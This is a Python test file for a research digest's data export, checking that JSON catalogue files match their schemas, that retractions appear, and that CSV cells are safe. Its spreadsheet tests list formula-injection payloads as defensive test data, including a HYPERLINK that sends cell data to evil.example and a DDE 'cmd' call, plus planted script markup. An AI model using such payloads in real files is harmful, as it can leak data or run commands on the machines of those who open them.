"""The catalogue as data: as its schemas say, complete, and safe in a spreadsheet."""

import csv
import dataclasses
import datetime
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from digest.export import iter_exported_files
from digest.export.catalogue import iter_catalogue_files
from digest.export.catalogue.table import BOM, format_cell, write_table
from digest.model.entry import Correction
from digest.model.status import Notice, NoticeKind, ReferenceStatus, Status
from digest.model.study import RecruitmentStatus, SignUp
from digest.pages import Site, plan_site
from digest.pages.catalogue import DATA_FILES, Column
from digest.read import read_library
from tests.builders import make_entry, make_reference, make_study
from tests.export.garden_site import DAY, URL, make_configuration, make_module, make_site

REPOSITORY = Path(__file__).parents[2]
NAMES = [file.name for file in DATA_FILES]


def files(site: Site) -> dict[str, bytes]:
    return {file.address: file.content for file in iter_catalogue_files(site)}


def data(site: Site, name: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(files(site)[f"/data/{name}.json"])[name]
    return found


def table(site: Site, name: str) -> list[dict[str, str]]:
    text = files(site)[f"/data/{name}.csv"].decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def complete() -> dict[str, Any]:
    """Content in which every field of the catalogue has something to say."""
    notice = Notice(NoticeKind.RETRACTION, "2025-07", "10.5555/notice", sources=("publisher",))
    entry = make_entry(
        "mulch", "2023-01", topics=("water",), research_types=("trial",), citations=("bloom",), disclosure="A friend.",
        limitations="One garden.", corrections=(Correction(date=DAY, note="It said 12."),), training=("beds",),
    )  # fmt: skip
    return {
        "entries": (entry,),
        "references": (make_reference("bloom", DOI="10.5555/bloom"), make_reference("unread")),
        "status": Status(references={"bloom": ReferenceStatus(asked={"crossref": DAY}, notices=(notice,))}),
        "modules": (make_module(),),
        "studies": (
            make_study(
                "diary",
                status=RecruitmentStatus.RECRUITING,
                audiences=("gardeners",),
                registry="NCT00000001",
                sign_up=SignUp(email="a@example.org", closes=DAY),
            ),
        ),
    }


@pytest.fixture(scope="module")
def own() -> Site:
    """This repository's digest."""
    return plan_site(read_library(REPOSITORY)[0].published(), DAY)


@pytest.mark.parametrize("name", NAMES)
def test_the_data_of_this_digest_are_as_their_schema_says(own, name):
    written = files(own)
    schema = json.loads(written[f"/data/{name}.schema.json"])
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    content = json.loads(written[f"/data/{name}.json"])
    assert [error.message for error in validator.iter_errors(content)] == []
    assert content["$schema"] == schema["$id"] == f"https://digest.example.org/data/{name}.schema.json"
    assert content["licence"] == "CC BY 4.0"
    without = {**content, name: [{key: value for key, value in content[name][0].items() if key != "url"}]}
    assert (name == "references") == validator.is_valid(without)


@pytest.mark.parametrize("name", NAMES)
def test_every_field_of_the_data_is_described_and_none_that_is_not_there(name):
    def check(fields: tuple[Column, ...], record: dict[str, Any]) -> None:
        assert set(record) <= {field.name for field in fields}
        assert {field.name for field in fields if field.required} <= set(record)
        for field in fields:
            for part in record.get(field.name, []) if field.type == "groups" else []:
                check(field.fields, part)

    (file,) = (file for file in DATA_FILES if file.name == name)
    records = data(make_site(**complete()), name)
    for record in records:
        check(file.fields, record)
    seen = {key for record in records for key in record}
    silent = {"entries": {"authors"}, "topics": {"alt_labels", "broader"}, "research-types": {"alt_labels", "strength"}}
    assert {field.name for field in file.fields} - seen <= silent.get(name, set())


def test_every_entry_and_reference_is_in_it_once_and_all_that_is_named_exists(own):
    entries, references = data(own, "entries"), data(own, "references")
    assert len({entry["id"] for entry in entries}) == len(own.links.entries)
    keys = {reference["key"] for reference in references}
    assert keys == {reference.citation_key for reference in own.library.references}
    assert {key for entry in entries for key in entry["citations"]} <= keys
    assert {topic for entry in entries for topic in entry["topics"]} <= {each["id"] for each in data(own, "topics")}
    kinds = {kind for entry in entries for kind in entry["research_types"]}
    assert kinds <= {each["id"] for each in data(own, "research-types")}
    pages = {URL.replace("garden", "digest") + page.address[1:] for page in own.plan}
    assert {each["url"] for name in NAMES if name != "references" for each in data(own, name)} <= pages


def test_retractions_and_corrections_are_in_the_data_and_in_the_tables():
    site = make_site(**complete())
    (entry,) = data(site, "entries")
    assert entry["standing"] == table(site, "entries")[0]["standing"] == "Retracted"
    assert entry["corrections"] == [{"date": "2026-11-22", "note": "It said 12."}]
    reference, unread = data(site, "references")
    assert reference["notices"][0]["kind"] == table(site, "references")[0]["standing"] == "retraction"
    assert reference["as_of"] == "2026-11-22"
    assert reference["summaries"] == [f"{URL}2023/01/mulch/"]
    assert unread["summaries"] == []
    assert "as_of" not in unread


def test_whether_a_study_is_open_is_as_of_the_day_that_the_file_names():
    for day, is_open in ((DAY, True), (DAY + datetime.timedelta(1), False)):
        site = make_site(day, **complete())
        assert json.loads(files(site)["/data/studies.json"])["day"] == day.isoformat()
        assert [study["open"] for study in data(site, "studies")] == [is_open]


def test_nothing_but_studies_depends_on_the_day():
    before, after = (files(make_site(day, **complete())) for day in (DAY, datetime.date(2031, 1, 1)))
    assert {name for name in before if before[name] != after[name]} == {"/data/studies.json"}


# Tables


@pytest.mark.parametrize(
    "text",
    [
        *('=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1"),
        *("\n=1", "\u00a0=1", "＝1", "＋1", "－1", "＠SUM(1)", "\x00=1", "\u2028=1"),
    ],
)
def test_no_cell_can_be_a_formula(text):
    cell = format_cell(text)
    assert cell.startswith("'")
    site = make_site(entries=(make_entry("one", title=text, takeaway=text),))
    (row,) = table(site, "entries")
    assert row["title"] == row["takeaway"] == cell


@given(st.lists(st.text(st.characters()), min_size=2, max_size=2))
def test_whatever_is_written_a_record_is_one_line_that_reads_back(values):
    text = write_table(("a", "b"), [dict(zip(("a", "b"), values, strict=True))])
    assert text.count("\r\n") == 2
    (row,) = csv.DictReader(io.StringIO(text.removeprefix(BOM), newline=""))
    assert [row["a"], row["b"]] == [format_cell(value) for value in values]
    assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"} for cell in row.values() if cell)


def test_several_values_stand_in_one_cell_and_none_in_an_empty_one():
    assert format_cell(["water", "beds"]) == "water; beds"
    assert format_cell(None) == ""
    assert format_cell(3) == "3"


def test_a_spreadsheet_is_told_that_the_table_is_in_utf_8(own):
    assert files(own)["/data/entries.csv"].startswith(b"\xef\xbb\xbf")
    assert len(table(own, "entries")) == len(own.links.entries)
    assert len(table(own, "references")) == len(own.library.references)


def test_planted_markup_is_text():
    planted = '<script>alert(1)</script> "}\x00\ud800'
    configuration = dataclasses.replace(make_configuration(title=planted, licence=planted, licence_url=planted))
    entry = make_entry("one", title=planted, takeaway=planted, authors=(planted,), limitations=planted)
    site = make_site(configuration=configuration, entries=(entry,), references=(make_reference("a", title=planted),))
    assert data(site, "entries")[0]["title"] == planted.replace("\ud800", "?")
    assert data(site, "references")[0]["csl"]["title"].startswith("<script>")
    assert table(site, "references")[0]["title"].startswith("<script>")


# The page


def test_the_page_explains_every_file_and_leads_to_nothing_that_is_not_there(own):
    (page,) = (page for page in own.pages if page.address == "/data/")
    written = {file.address for file in iter_exported_files(own) if file.address.startswith("/data/")}
    assert {f"/data/{name}" for name in _links(page.body) if "/" not in name} == written
    for file in DATA_FILES:
        for field in file.fields:
            assert f"<code>{field.name}</code>" in page.body


def _links(html: str) -> list[str]:
    return [part.partition('"')[0] for part in html.split('href="')[1:]]
